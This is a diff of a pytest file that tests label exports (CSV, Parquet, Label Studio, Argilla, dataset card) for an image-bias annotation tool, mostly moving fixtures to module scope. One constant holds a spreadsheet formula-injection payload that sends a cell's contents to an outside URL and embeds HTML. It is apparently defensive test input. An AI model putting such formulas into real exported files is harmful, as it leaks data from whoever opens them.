@@ -1,5 +1,6 @@
 import csv
 import json
+import random
 import zipfile
 from dataclasses import replace
 from xml.etree import ElementTree
@@ -9,6 +10,7 @@ import pytest
 import yaml
 
 from bias_core.annotation.collected import COLUMNS, answers_frame, export_labels, labelled_items
+from bias_core.annotation.label_store import LabelStore
 from bias_core.annotation.rating import delete_my_answers, join
 from bias_core.annotation.task_owner import OwnerKey, create_task, set_status
 from bias_core.annotation.tasks import pst_task
@@ -19,18 +21,27 @@ from tests.annotation.raters import CHOICES, GOLD, open_task, pictures, say_all
 FORMULA = '=HYPERLINK("http://example.com?x="&A1,"<b>nurse</b>")'
 
 
-@pytest.fixture
-def store(make_store):
-    return make_store("sqlite")
+@pytest.fixture(scope="module")
+def store(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("labels")
+    store = LabelStore(f"sqlite:///{folder}/labels.sqlite", pictures=folder / "pictures", rng=random.Random(1))
+    yield store
+    store.close()
 
 
-@pytest.fixture
-def task(store, tmp_path):
+@pytest.fixture(scope="module")
+def task(store, tmp_path_factory):
     """Three raters on three pictures and one with a known answer; the third rater sees others on the left."""
-    made = open_task(store, tmp_path / "originals", 3, n_gold=1, gold_share=0.5)
+    made = open_task(store, tmp_path_factory.mktemp("originals"), 3, n_gold=1, gold_share=0.5)
     for i in range(3):
         rate_all(store, made, {**CHOICES, "left": "masculine" if i == 2 else "feminine"})
     return made
+
+
+@pytest.fixture(scope="module")
+def out(store, task, tmp_path_factory):
+    """What was exported of it."""
+    return unpacked(store, task.key, tmp_path_factory.mktemp("export"))
 
 
 def rate_all(store, made, choices):
@@ -45,16 +56,14 @@ def unpacked(store, key, folder):
     return folder / "out"
 
 
-def test_the_csv_is_what_the_studies_read(store, task, tmp_path):
-    out = unpacked(store, task.key, tmp_path)
+def test_the_csv_is_what_the_studies_read(store, task, out):
     read = read_answers(str(out / "labels.csv"), allowed=task.task.answer_keys)
     left = read[(read["position"] == "left") & read["image_id"].isin(["picture-0", "picture-1", "picture-2"])]
     assert majority(left).to_dict() == dict.fromkeys(["picture-0", "picture-1", "picture-2"], "feminine")
     assert len(left) == 9
 
 
-def test_every_table_says_the_same(store, task, tmp_path):
-    out = unpacked(store, task.key, tmp_path)
+def test_every_table_says_the_same(store, task, out):
     frame = answers_frame(store, task.key)
     assert list(frame) == [*COLUMNS]
     assert len(frame) == 2 * len(set(zip(frame["image_id"], frame["rater"], strict=True)))
@@ -68,9 +77,8 @@ def test_every_table_says_the_same(store, task, tmp_path):
     assert set(known.loc[known["position"] == "left", "known"]) <= {GOLD["left"]}
 
 
-def test_the_imagefolder_loads_with_the_answers(store, task, tmp_path):
+def test_the_imagefolder_loads_with_the_answers(out, tmp_path):
     datasets = pytest.importorskip("datasets")
-    out = unpacked(store, task.key, tmp_path)
     loaded = datasets.load_dataset(
         "imagefolder", data_dir=str(out / "train"), split="train", cache_dir=str(tmp_path / "cache")
     )
@@ -96,8 +104,7 @@ def test_most_votes_win_and_a_tie_is_nobodys(store, tmp_path):
         assert share is None or one.share("left") == pytest.approx(share)
 
 
-def test_label_studio_reads_config_and_answers(store, task, tmp_path):
-    out = unpacked(store, task.key, tmp_path)
+def test_label_studio_reads_config_and_answers(store, task, out):
     config = ElementTree.parse(out / "label_studio" / "config.xml")
     offered = {
         choices.get("name"): [choice.get("value") for choice in choices.iter("Choice")]
@@ -118,8 +125,7 @@ def test_label_studio_reads_config_and_answers(store, task, tmp_path):
     assert tasks[0]["annotations"][0]["lead_time"] == 1.5
 
 
-def test_argilla_reads_settings_and_records(store, task, tmp_path):
-    out = unpacked(store, task.key, tmp_path)
+def test_argilla_reads_settings_and_records(store, task, out):
     settings = json.loads((out / "argilla" / "settings.json").read_text())
     assert [question["name"] for question in settings["questions"]] == ["left", "right"]
     records = json.loads((out / "argilla" / "records.json").read_text())
@@ -129,8 +135,8 @@ def test_argilla_reads_settings_and_records(store, task, tmp_path):
     assert all((out / record["fields"]["image"]).is_file() for record in records)
 
 
-def test_the_card_says_what_was_asked_and_of_how_many(store, task, tmp_path):
-    card = (unpacked(store, task.key, tmp_path) / "README.md").read_text()
+def test_the_card_says_what_was_asked_and_of_how_many(task, out):
+    card = (out / "README.md").read_text()
     head = yaml.safe_load(card.split("---")[1])
     assert head["pretty_name"] == task.task.title
     assert "9 answers of 3 raters to 3 pictures (3 have the 3 raters that were wanted)" in card
@@ -174,7 +180,9 @@ def test_a_task_without_answers_can_be_exported(store, tmp_path):
     assert list(pd.read_parquet(out / "labels.parquet")) == [*COLUMNS]
 
 
-def test_an_export_is_whole_or_absent_and_its_owners_alone(store, task, tmp_path):
+def test_an_export_is_whole_or_absent_and_its_owners_alone(make_store, tmp_path):
+    store = make_store("sqlite")
+    task = open_task(store, tmp_path / "originals", 1)
     with pytest.raises(NotAllowed):
         export_labels(store, OwnerKey(task_id=task.task.id, secret="x"), tmp_path / "labels.zip")
     next(store.pictures.rglob("*.png")).unlink()
